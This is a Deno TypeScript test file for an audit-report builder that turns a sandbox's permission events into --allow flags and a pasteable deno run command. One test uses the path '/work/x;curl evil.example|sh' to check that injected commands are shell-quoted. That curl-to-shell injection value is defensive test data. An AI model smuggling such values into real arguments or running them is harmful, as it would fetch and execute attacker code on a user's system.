import assert from "node:assert/strict";
import { buildAuditReport, type ReportedRun } from "./report.ts";
import type { PermissionEvent, RunResult } from "../harness/run_result.ts";

const TIME = "2026-01-01T00:00:00.000Z";

// Every RunResult is a ReportedRun: a change to either that breaks
// buildAuditReport(result) fails this at compile time.
const _runResultIsReported: RunResult extends ReportedRun ? true : never = true;

function check(
  permission: PermissionEvent["permission"],
  value: string | null,
  decision: "allow" | "deny",
): PermissionEvent {
  return {
    time: TIME,
    source: "broker",
    kind: "permission",
    sandboxId: "s",
    runId: "r",
    permission,
    value,
    decision,
    reason: decision === "allow" ? "granted" : "not granted",
    count: 1,
    firstTime: TIME,
    lastTime: TIME,
  };
}

function run(audit: PermissionEvent[]): ReportedRun {
  return { audit, exitCode: 0, reason: "exit", durationMs: 10 };
}

const OPTIONS = {
  program: "agent.ts",
  learn: false,
  paths: [],
  relativeTo: "/work",
} as const;

Deno.test("buildAuditReport() shell-quotes a path the program chose in the deno command", () => {
  // A program that tries to read "x;curl evil|sh" must not turn the pasted
  // command into one that runs curl.
  const report = buildAuditReport(
    run([check("read", "/work/x;curl evil.example|sh", "deny")]),
    OPTIONS,
  );
  assert.deepEqual(report.minimalFlags, [
    "--allow-read=/work/x;curl evil.example|sh",
  ]);
  assert.equal(
    report.denoCommand,
    "deno run '--allow-read=/work/x;curl evil.example|sh' agent.ts",
  );
});

Deno.test("buildAuditReport() quotes a single quote inside a value", () => {
  const report = buildAuditReport(run([check("env", "A'B", "deny")]), OPTIONS);
  assert.equal(report.denoCommand, `deno run '--allow-env=A'\\''B' agent.ts`);
});

Deno.test("buildAuditReport() warns that the flags include denied attempts only when some were denied", () => {
  const denied = buildAuditReport(
    run([check("read", "/work/a.txt", "allow"), check("env", "HOME", "deny")]),
    OPTIONS,
  );
  assert.equal(denied.flagNotes.length, 1);
  assert.match(denied.flagNotes[0]!, /denied attempts included/);
  const allowed = buildAuditReport(
    run([check("read", "/work/a.txt", "allow")]),
    OPTIONS,
  );
  assert.deepEqual(allowed.flagNotes, []);
  assert.equal(
    allowed.denoCommand,
    "deno run --allow-read=/work/a.txt agent.ts",
  );
});
